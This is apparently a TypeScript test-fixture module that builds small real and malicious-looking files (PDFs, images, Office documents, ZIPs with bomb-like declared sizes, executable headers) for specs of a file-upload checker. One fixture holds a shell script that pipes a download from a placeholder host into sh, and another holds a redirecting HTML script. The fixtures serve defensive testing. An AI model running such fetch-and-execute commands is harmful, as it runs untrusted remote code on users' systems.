/** Real, small files built in memory for the files specs. */
import { Document, Packer, Paragraph } from 'docx';
import ExcelJS from 'exceljs';
import { Readable } from 'node:stream';
import { crc32, deflateSync } from 'node:zlib';

/** A one-page PDF with a correct cross-reference table (opens in any reader). */
export function minimalPdf(): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
  ];
  let body = '%PDF-1.4\n';
  const offsets = objects.map((object, i) => {
    const offset = Buffer.byteLength(body);
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const xref = Buffer.byteLength(body);
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  body += offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('');
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typed = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typed));
  return Buffer.concat([length, typed, crc]);
}

/** A 1×1 red RGB PNG. */
export function minimalPng(): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(1, 0);
  header.writeUInt32BE(1, 4);
  header.set([8, 2, 0, 0, 0], 8); // 8-bit, RGB, deflate, no filter, no interlace
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(Buffer.from([0, 255, 0, 0]))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A 1×1 baseline JPEG (JFIF), as written by ImageMagick. */
export function minimalJpeg(): Buffer {
  return Buffer.from(JPEG_1X1_BASE64, 'base64');
}
const JPEG_1X1_BASE64 =
  '/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAMCAgMCAgMDAwMEAwMEBQgFBQQEBQoHBwYIDAoMDAsKCwsNDhIQDQ4RDgsLEBYQERMUFRUVDA8XGBYUGBIUFRT/2wBDAQMEBAUEBQkFBQkUDQsNFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBT/wAARCAABAAEDAREAAhEBAxEB/8QAFAABAAAAAAAAAAAAAAAAAAAACP/EABQQAQAAAAAAAAAAAAAAAAAAAAD/xAAVAQEBAAAAAAAAAAAAAAAAAAAHCf/EABQRAQAAAAAAAAAAAAAAAAAAAAD/2gAMAwEAAhEDEQA/ACYJFEH/2Q==';

export async function realDocx(): Promise<Buffer> {
  const document = new Document({ sections: [{ children: [new Paragraph('Өтінім №1 — жоба сипаттамасы')] }] });
  return Packer.toBuffer(document);
}

export async function realXlsx(): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  workbook.addWorksheet('Бюджет').addRows([
    ['Статья', 'Сумма'],
    ['Аренда', 300000],
  ]);
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

/**
 * A ZIP of stored (uncompressed) entries, with a proper central directory. `between` puts
 * bytes that belong to no entry after the first one; `comment` sets the archive comment.
 */
export function zipOf(
  entries: ReadonlyArray<readonly [string, string | Buffer]>,
  options: { between?: Buffer; comment?: Buffer } = {},
): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, content] of entries) {
    const data = Buffer.isBuffer(content) ? content : Buffer.from(content);
    const fileName = Buffer.from(name, 'utf8');
    const crc = crc32(data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6); // names are UTF-8
    local.writeUInt16LE(0x21, 12); // 1980-01-01
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(fileName.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(0x21, 14);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(fileName.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, fileName, data);
    centrals.push(central, fileName);
    offset += local.length + fileName.length + data.length;
    if (options.between && locals.length === 3) {
      locals.push(options.between);
      offset += options.between.length;
    }
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  const comment = options.comment ?? Buffer.alloc(0);
  end.writeUInt16LE(comment.length, 20);
  return Buffer.concat([...locals, directory, end, comment]);
}

/**
 * The same ZIP with entry `index` declared deflated and unpacking to `size` bytes (central
 * directory and local header): what a bomb's directory says, without building the bomb.
 */
export function withDeclaredSize(zip: Buffer, index: number, size: number): Buffer {
  const patched = Buffer.from(zip);
  let seen = 0;
  for (let at = 0; at + 4 <= patched.length; at++) {
    if (patched.readUInt32LE(at) !== 0x02014b50) continue;
    if (seen++ === index) {
      const local = patched.readUInt32LE(at + 42);
      patched.writeUInt16LE(8, at + 10);
      patched.writeUInt32LE(size, at + 24);
      patched.writeUInt16LE(8, local + 8);
      patched.writeUInt32LE(size, local + 22);
      return patched;
    }
  }
  throw new Error(`no entry ${index}`);
}

/** A relationships part: [id, type (last segment of the officeDocument relationship URI), target, targetMode?]. */
export function rels(
  relationships: ReadonlyArray<readonly [string, string, string, ('External' | 'Internal')?]>,
): string {
  const ns = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const items = relationships
    .map(([id, type, target, mode]) => {
      const uri =
        type === 'vbaProject' ? 'http://schemas.microsoft.com/office/2006/relationships/vbaProject' : `${ns}/${type}`;
      return `<Relationship Id="${id}" Type="${uri}" Target="${target}"${mode ? ` TargetMode="${mode}"` : ''}/>`;
    })
    .join('');
  return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${items}</Relationships>`;
}

export const DOCX_CONTENT_TYPES =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';

/** A DOS/PE header, as at the start of every Windows .exe. */
export function windowsExecutable(): Buffer {
  const exe = Buffer.alloc(1024);
  exe.write('MZ', 0, 'latin1');
  exe.writeUInt32LE(0x80, 0x3c);
  exe.write('PE\0\0', 0x80, 'latin1');
  exe.writeUInt16LE(0x8664, 0x84);
  return exe;
}

/** A 64-bit little-endian ELF executable header (Linux binaries). */
export function elfExecutable(): Buffer {
  const elf = Buffer.alloc(1024);
  elf.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], 0);
  elf.writeUInt16LE(2, 16); // ET_EXEC
  elf.writeUInt16LE(0x3e, 18); // x86-64
  return elf;
}

export const shellScript = (): Buffer => Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n');
export const htmlPage = (): Buffer =>
  Buffer.from(
    '<!DOCTYPE html><html><body><script>document.location="https://example.invalid/"</script></body></html>\n',
  );

/** A stream of `head` followed by zeros up to `total` bytes, counting how much was pulled. */
export function meteredSource(
  head: Buffer,
  total: number,
  chunk = 16 * 1024,
): { stream: Readable; pulled: () => number } {
  let pulled = 0;
  async function* generate(): AsyncGenerator<Buffer> {
    pulled += head.length;
    yield head;
    while (pulled < total) {
      const size = Math.min(chunk, total - pulled);
      pulled += size;
      yield Buffer.alloc(size);
    }
  }
  return { stream: Readable.from(generate()), pulled: () => pulled };
}
